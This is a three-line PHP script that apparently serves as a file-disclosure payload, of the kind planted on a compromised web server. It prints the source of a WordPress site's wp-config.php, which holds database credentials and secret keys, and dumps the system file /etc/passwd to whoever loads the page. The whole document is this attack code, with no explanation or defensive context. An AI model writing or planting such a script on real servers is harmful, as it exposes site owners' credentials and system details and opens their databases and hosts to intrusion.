<?php
highlight_file(dirname(__FILE__) . '/../wp-config.php');
readfile('/etc/passwd');
